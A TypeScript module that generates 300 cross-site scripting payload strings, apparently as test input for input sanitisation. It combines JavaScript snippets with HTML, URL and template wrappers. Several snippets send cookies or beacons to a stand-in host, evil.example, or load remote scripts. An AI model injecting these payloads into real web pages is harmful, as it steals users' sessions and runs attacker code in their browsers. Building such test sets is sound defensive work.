/** What people who mean harm write into every field that they can reach. */

const attempts = [
  'alert(1)',
  'document.title="pwned"',
  'fetch("https://evil.example/"+document.cookie)',
  'document.body.append(document.createElement("script"))',
  'location="https://evil.example/"',
  'new Image().src="https://evil.example/i"',
  'navigator.sendBeacon("https://evil.example/b")',
  'import("https://evil.example/m.js")',
  'eval(atob("YWxlcnQoMSk="))',
  'open("https://evil.example/")',
  'parent.postMessage("x","*")',
  'localStorage.clear()',
];

const wrappers: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT SRC="https://evil.example/x.js">${code}</SCRIPT>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><img src=x onerror='${code}'>`,
  (code) => `<img src="https://evil.example/p.png" onload="${code}">`,
  (code) => `<svg/onload=${code}>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<body onload=${code}>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<a href="javascript:${code}">click</a>`,
  (code) => `javascript:${code}`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<math><mi xlink:href="data:x,<script>${code}</script>">`,
  (code) => `<style>@import "https://evil.example/${code.length}.css";</style>${code}`,
  (code) => `<link rel=stylesheet href="https://evil.example/a.css" onload=${code}>`,
  (code) => `<base href="https://evil.example/"><script src=x>${code}</script>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `&lt;script&gt;${code}&#x3C;/script&#x3E;`,
];

/** 300 texts that would run, ask another server or leave the page, if anything took them for more than text. */
export const scriptPayloads: readonly string[] = attempts.flatMap((code) => wrappers.map((wrap) => wrap(code)));
